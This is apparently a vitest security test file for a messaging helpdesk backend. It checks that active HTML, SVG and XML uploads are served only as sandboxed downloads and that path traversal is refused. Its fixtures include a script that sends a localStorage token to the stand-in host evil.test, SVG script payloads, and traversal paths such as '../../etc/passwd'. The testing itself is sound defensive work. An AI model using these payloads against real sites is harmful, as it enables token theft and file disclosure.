import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { eq } from "drizzle-orm";
import type { LightMyRequestResponse } from "fastify";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { newContact, newSuper, newTenant, newTicket, newWhatsapp } from "../../test/factories.js";
import { createTestEnv, type TestEnv } from "../../test/harness.js";
import { messages } from "../db/schema/index.js";
import { ingestInbound } from "../modules/ingestion/ingest.js";

let env: TestEnv;
beforeAll(async () => {
  env = await createTestEnv();
});
afterAll(async () => env.close());

type Headers = Record<string, string>;

/** 1×1 transparent PNG. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
  "base64",
);
const HTML = Buffer.from(
  "<!doctype html><html><body><script>fetch('//evil.test/?t='+localStorage.getItem('token'))</script></body></html>",
);
const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.token)</script></svg>',
);
/** An SVG without the XML prolog: nothing but text to a byte sniffer. */
const BARE_SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage.token)"/>');
const XML = Buffer.from(
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
);

/** Types a browser would render as a document on our origin, and so run its script. */
const ACTIVE_TYPES = /html|svg|xml|javascript|ecmascript/i;

/** What every non-media file must look like when served: a download the browser neither renders nor sniffs. */
function expectDownloadOnly(response: LightMyRequestResponse) {
  expect(response.statusCode).toBe(200);
  expect(response.headers["content-type"]).not.toMatch(ACTIVE_TYPES);
  expect(response.headers["content-disposition"]).toMatch(/^attachment/);
  expect(response.headers["x-content-type-options"]).toBe("nosniff");
}

const stored = (path: string) => path.replace(/^\/?public\//, "");
const storedExtension = (path: string) => /\.([a-z0-9]+)$/.exec(path)?.[1] ?? "";

async function connectedSimulator() {
  const tenant = await newTenant(env);
  const whatsapp = await newWhatsapp(env.db, tenant.company.id, { provider: "simulator", isDefault: true });
  await env.ctx.sessions!.start(whatsapp.id);
  expect((await env.app.inject({ method: "POST", url: `/simulator/scan/${whatsapp.id}` })).statusCode).toBe(200);
  return { ...tenant, whatsapp };
}

async function multipart(field: string, file: { data: Buffer; name: string; type?: string }, extra: Headers = {}) {
  const form = new FormData();
  for (const [name, value] of Object.entries(extra)) form.append(name, value);
  form.append(field, new Blob([file.data], { type: file.type ?? "" }), file.name);
  const encoded = new Response(form);
  return { payload: Buffer.from(await encoded.arrayBuffer()), contentType: encoded.headers.get("content-type") ?? "" };
}

async function postFile(
  headers: Headers,
  url: string,
  field: string,
  file: { data: Buffer; name: string; type?: string },
  extra?: Headers,
) {
  const body = await multipart(field, file, extra);
  return env.app.inject({
    method: "POST",
    url,
    headers: { ...headers, "content-type": body.contentType },
    payload: body.payload,
  });
}

describe("inbound customer files", () => {
  it("stores a simulator document named invoice.html by its bytes and serves it as a download, never as HTML", async () => {
    const { whatsapp } = await connectedSimulator();
    const cases = [
      { fileName: "invoice.html", data: HTML },
      { fileName: "invoice.htm", data: HTML },
      { fileName: "page.xhtml", data: XML },
      { fileName: "logo.svg", data: SVG },
      { fileName: "bare.svg", data: BARE_SVG },
      { fileName: "nfe.xml", data: XML },
    ];
    for (const [index, item] of cases.entries()) {
      const response = await env.app.inject({
        method: "POST",
        url: "/simulator/inbound",
        payload: {
          whatsappId: whatsapp.id,
          from: `55119888800${index}`,
          media: { type: "document", fileName: item.fileName, base64: item.data.toString("base64") },
        },
      });
      expect(response.statusCode, item.fileName).toBe(200);
    }
    await vi.waitFor(async () =>
      expect(await env.db.select().from(messages).where(eq(messages.whatsappId, whatsapp.id))).toHaveLength(
        cases.length,
      ),
    );
    const rows = await env.db.select().from(messages).where(eq(messages.whatsappId, whatsapp.id));
    for (const item of cases) {
      const row = rows.find((message) => message.mediaName === item.fileName);
      expect(row, item.fileName).toBeDefined();
      // The customer's name is what people see; it never picks the stored extension.
      expect(storedExtension(row!.mediaUrl!), item.fileName).toMatch(/^(txt|bin)$/);
      const served = await env.app.inject({ url: `/public/${row!.mediaUrl}` });
      expectDownloadOnly(served);
      expect(served.rawPayload.equals(item.data)).toBe(true);
    }
  });

  it("stores what a provider such as Baileys reports (an image/svg+xml named x.svg) by its bytes", async () => {
    const { company } = await newTenant(env);
    const whatsapp = await newWhatsapp(env.db, company.id, { provider: "simulator" });
    const result = await ingestInbound(env.ctx, whatsapp, {
      providerId: `MEDIA${Date.now()}`,
      from: "5511977770001",
      body: "",
      timestamp: Date.now(),
      media: { type: "image", fileName: "x.svg", mimeType: "image/svg+xml", data: SVG },
    });
    if (!("message" in result)) throw new Error("expected a stored message");
    expect(result.message.mediaName).toBe("x.svg");
    expect(storedExtension(result.message.mediaUrl!)).toBe("bin");
    expectDownloadOnly(await env.app.inject({ url: `/public/${result.message.mediaUrl}` }));
  });

  it("serves a real PNG inline as image/png", async () => {
    const { whatsapp } = await connectedSimulator();
    await env.app.inject({
      method: "POST",
      url: "/simulator/inbound",
      payload: {
        whatsappId: whatsapp.id,
        from: "5511966660001",
        media: { type: "image", fileName: "photo.html", base64: PNG.toString("base64") },
      },
    });
    await vi.waitFor(async () =>
      expect(await env.db.select().from(messages).where(eq(messages.whatsappId, whatsapp.id))).toHaveLength(1),
    );
    const [row] = await env.db.select().from(messages).where(eq(messages.whatsappId, whatsapp.id));
    // A PNG named .html is still a PNG: the bytes decide.
    expect(storedExtension(row!.mediaUrl!)).toBe("png");
    const served = await env.app.inject({ url: `/public/${row!.mediaUrl}` });
    expect(served.statusCode).toBe(200);
    expect(served.headers["content-type"]).toBe("image/png");
    expect(served.headers["content-disposition"] ?? "inline").toMatch(/^inline/);
    expect(served.headers["x-content-type-options"]).toBe("nosniff");
    expect(served.rawPayload.equals(PNG)).toBe(true);
  });
});

describe("uploads", () => {
  it("an attendant's .svg sent on a ticket is refused or stored as a download, never served as image/svg+xml", async () => {
    const tenant = await connectedSimulator();
    const contact = await newContact(env.db, tenant.company.id);
    const ticket = await newTicket(env.db, tenant.company.id, {
      contactId: contact.id,
      whatsappId: tenant.whatsapp.id,
      status: "open",
      userId: tenant.agent.id,
    });
    const url = `/messages/${ticket.id}`;
    const withProlog = await postFile(tenant.agentHeaders, url, "medias", { data: SVG, name: "logo.svg" });
    expect(withProlog.statusCode).toBe(400);
    expect(withProlog.json().fields[0]).toMatchObject({ path: "body.medias.0", message: "unsupportedType" });

    const bare = await postFile(tenant.agentHeaders, url, "medias", { data: BARE_SVG, name: "logo.svg" });
    expect(bare.statusCode, bare.body).toBe(200);
    const [sent] = bare.json();
    expect(sent).toMatchObject({ mediaType: "application", mediaName: "logo.svg" });
    expect(storedExtension(sent.mediaUrl)).toBe("txt");
    expectDownloadOnly(await env.app.inject({ url: sent.mediaUrl }));
  });

  it("a quick message's .svg is refused or stored as a download", async () => {
    const { agentHeaders } = await newTenant(env);
    const created = await env.app.inject({
      method: "POST",
      url: "/quick-messages",
      headers: agentHeaders,
      payload: { shortcode: "logo" },
    });
    expect(created.statusCode, created.body).toBe(200);
    const url = `/quick-messages/${created.json().id}/media-upload`;
    const extra = { typeArch: "quickMessage" };
    const withProlog = await postFile(agentHeaders, url, "file", { data: SVG, name: "logo.svg" }, extra);
    expect(withProlog.statusCode).toBe(400);
    expect(withProlog.json().fields).toEqual([{ path: "body.file", message: "unsupportedType" }]);

    const bare = await postFile(agentHeaders, url, "file", { data: BARE_SVG, name: "logo.svg" }, extra);
    expect(bare.statusCode, bare.body).toBe(200);
    expect(bare.json().mediaName).toBe("logo.svg");
    expect(storedExtension(bare.json().mediaPath)).toBe("txt");
    expectDownloadOnly(await env.app.inject({ url: bare.json().mediaPath }));
  });

  it("an announcement takes png and jpg only: an .svg is refused", async () => {
    const platform = await newSuper(env);
    const created = await env.app.inject({
      method: "POST",
      url: "/announcements",
      headers: platform.headers,
      payload: { title: "Logo", text: "new logo" },
    });
    const url = `/announcements/${created.json().id}/media-upload`;
    for (const data of [SVG, BARE_SVG]) {
      const response = await postFile(platform.headers, url, "file", { data, name: "logo.svg", type: "image/svg+xml" });
      expect(response.statusCode).toBe(400);
      expect(response.json().fields).toEqual([{ path: "body.file", message: "unsupportedType" }]);
    }
  });
});

describe("MediaStorage.save", () => {
  it("decides the stored extension from the bytes for every caller, whatever the name says", async () => {
    const { company } = await newTenant(env);
    const save = (data: Buffer, originalName: string) => env.ctx.media.save(company.id, { data, originalName });
    expect(storedExtension((await save(HTML, "x.html")).path)).toBe("txt");
    expect(storedExtension((await save(HTML, "x.js")).path)).toBe("txt");
    expect(storedExtension((await save(SVG, "x.svg")).path)).toBe("bin");
    expect(storedExtension((await save(PNG, "x.html")).path)).toBe("png");
    expect(storedExtension((await save(Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]), "x.png")).path)).toBe("bin");
    expect(storedExtension((await save(Buffer.from("name;number\nAna;5511\n"), "list.csv")).path)).toBe("csv");
    const named = await save(HTML, "../../etc/evil\u202e.html");
    expect(named.name).toBe("evil.html");
    expect(stored(named.path)).toMatch(/^company\d+\/[0-9a-f-]{36}\.txt$/);
  });
});

describe("MediaStorage.read", () => {
  it("answers a stored file's bytes, and nothing outside the store", async () => {
    const { company } = await newTenant(env);
    const saved = await env.ctx.media.save(company.id, { data: PNG, originalName: "x.png" });
    expect(await env.ctx.media.read(saved.path)).toEqual(PNG);
    await expect(env.ctx.media.read("../../etc/passwd")).rejects.toMatchObject({ code: "ENOENT" });
    await env.ctx.media.remove(saved.path);
    await expect(env.ctx.media.read(saved.path)).rejects.toMatchObject({ code: "ENOENT" });
  });
});

describe("GET /public/", () => {
  it("serves a file stored before this rule with an active extension as an octet-stream download", async () => {
    const dir = join(env.ctx.media.root, "company999999");
    mkdirSync(dir, { recursive: true });
    for (const name of [
      "legacy.html",
      "legacy.htm",
      "legacy.svg",
      "legacy.xml",
      "legacy.xhtml",
      "legacy.js",
      "x.HTML",
    ]) {
      writeFileSync(join(dir, name), HTML);
      const response = await env.app.inject({ url: `/public/company999999/${name}` });
      expectDownloadOnly(response);
      expect(response.headers["content-type"], name).toBe("application/octet-stream");
      expect(response.headers["content-security-policy"]).toContain("sandbox");
    }
    // A part of the file, or its headers alone, carry the same headers.
    const partial = await env.app.inject({ url: "/public/company999999/legacy.html", headers: { range: "bytes=0-9" } });
    expect(partial.statusCode).toBe(206);
    expect(partial.headers).toMatchObject({
      "content-type": "application/octet-stream",
      "content-disposition": "attachment",
      "x-content-type-options": "nosniff",
    });
    const head = await env.app.inject({ method: "HEAD", url: "/public/company999999/legacy.svg" });
    expect(head.headers["content-type"]).toBe("application/octet-stream");
    expect(head.headers["content-disposition"]).toBe("attachment");
  });

  it("answers 404 for a missing file, never leaves the media root and never lists a folder", async () => {
    expect((await env.app.inject({ url: "/public/company1/missing.png" })).statusCode).toBe(404);
    for (const url of ["/public/../package.json", "/public/..%2f..%2fpackage.json"]) {
      expect((await env.app.inject({ url })).statusCode, url).toBe(404);
    }
    // A folder is never listed.
    expect((await env.app.inject({ url: "/public/company1/" })).statusCode).toBe(403);
  });
});
